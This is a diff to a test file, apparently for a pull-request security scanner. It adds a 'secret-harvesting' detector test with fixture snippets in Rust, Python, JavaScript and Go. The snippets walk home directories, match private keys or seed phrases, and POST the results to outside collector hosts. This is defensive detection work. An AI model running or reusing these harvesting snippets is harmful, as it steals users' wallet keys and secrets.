@@ -405,7 +405,7 @@ describe('docs/findings.md', () => {
     const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
     const section = doc.split('\n# Code changes\n')[1] ?? '';
     const documented = [...section.matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).sort();
-    const generic = ['secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook'];
+    const generic = ['secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting'];
     expect(documented).toEqual([...Object.keys(LANGUAGE_CASES), ...generic].sort());
   });
 });
@@ -1424,5 +1424,19 @@ describe('pr-claim-mismatch: a condition inverted in auth code under a typo clai
     expect(claimOf('src/ui/menu.ts', ['  if (!menu.open) return;'], ['  if (menu.open) return;'])?.severity).toBe('medium');
     expect(claimOf('src/auth/guard.ts', ["  throw new Error('Acess denied');"], ["  throw new Error('Access denied');"])).toBeUndefined();
     expect(claimOf('src/auth/guard.ts', ["  if (!user.roles.includes('admin')) return false;"], ["  if (user.roles.includes('admin')) return false;"], 'Let admins delete')).toBeUndefined();
+  });
+});
+
+describe('secret-harvesting: files searched for private keys, and data sent out (faster_log, 2025)', () => {
+  const harvest = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'secret-harvesting')?.severity;
+  it('reads Rust, Python, JavaScript and Go', () => {
+    expect(harvest('src/lib.rs', ['    let re = Regex::new(r"0x[a-fA-F0-9]{64}").unwrap();', '    for entry in WalkDir::new(".").into_iter().flatten() {', '        let _ = client.post("https://mainnet.solana-rpc-pool.workers.dev/").body(hit).send();'])).toBe('high');
+    expect(harvest('pkg/telemetry.py', ['for root, _, files in os.walk(os.path.expanduser("~")):', '    hits += re.findall(r"\\b[1-9A-HJ-NP-Za-km-z]{87,88}\\b", open(os.path.join(root, f)).read())', 'requests.post("https://collector.example.dev/v1", json=hits)'])).toBe('high');
+    expect(harvest('lib/scan.js', ["for (const f of fs.readdirSync(home, { recursive: true })) if (/seed phrase|mnemonic/i.test(read(f))) found.push(f);", "await fetch('https://collector.example.dev/v1', { method: 'POST', body: JSON.stringify(found) });"])).toBe('high');
+    expect(harvest('internal/scan.go', ['\tre := regexp.MustCompile(`[0-9a-fA-F]{64}`)', '\tfilepath.WalkDir(home, visit)', '\thttp.Post("https://collector.example.dev/v1", "text/plain", body)'])).toBe('high');
+  });
+  it('a wallet library that validates a key and calls its node, or a tool that walks files and calls an API, is not', () => {
+    expect(harvest('src/wallet.ts', ['const PRIVATE_KEY = /^0x[0-9a-fA-F]{64}$/;', "const rpc = await fetch('https://mainnet.infura.io/v3/' + projectId, { method: 'POST', body });"])).toBeUndefined();
+    expect(harvest('tools/lint.py', ['for root, _, files in os.walk("src"):', '    report.extend(check(os.path.join(root, f)) for f in files)', 'requests.post("https://lint-dashboard.example.dev/api/reports", json=report)'])).toBeUndefined();
   });
 });
